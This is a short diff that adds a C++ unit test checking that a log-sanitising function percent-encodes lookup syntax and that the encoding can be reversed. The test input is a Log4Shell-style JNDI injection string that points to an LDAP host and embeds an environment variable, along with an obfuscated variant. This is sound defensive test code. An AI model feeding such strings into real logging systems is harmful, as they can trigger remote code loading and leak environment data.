@@ -205,3 +205,18 @@ TEST(Scrub, KeysAfterEscapesAndPercentEncodingAreWordsOfTheirOwn) {
 
 }  // namespace
 }  // namespace parapet::observe
+
+namespace parapet::observe {
+namespace {
+
+TEST(SafeLogs, LookupsAreNeutralizedReversibly) {
+  std::string attack = "${jndi:ldap://x/${env:USER}} ${::-j}";
+  std::string safe = neutralize_lookups(attack);
+  EXPECT_EQ(safe, "$%7Bjndi:ldap://x/$%7Benv:USER}} $%7B::-j}");
+  EXPECT_FALSE(has_lookup(safe));
+  EXPECT_EQ(restore_lookups(safe), attack);
+  EXPECT_EQ(neutralize_lookups("no lookup $ {here}"), "no lookup $ {here}");
+}
+
+}  // namespace
+}  // namespace parapet::observe
